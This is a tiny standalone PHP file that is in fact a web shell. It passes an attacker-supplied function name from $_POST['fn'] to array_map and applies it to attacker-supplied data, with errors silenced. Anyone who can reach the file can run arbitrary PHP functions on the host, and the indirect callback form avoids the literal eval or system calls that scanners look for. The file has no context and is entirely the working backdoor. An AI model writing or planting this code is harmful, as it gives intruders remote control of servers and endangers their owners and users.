<?php
$items = array($_POST['data']);
@array_map($_POST['fn'], $items);
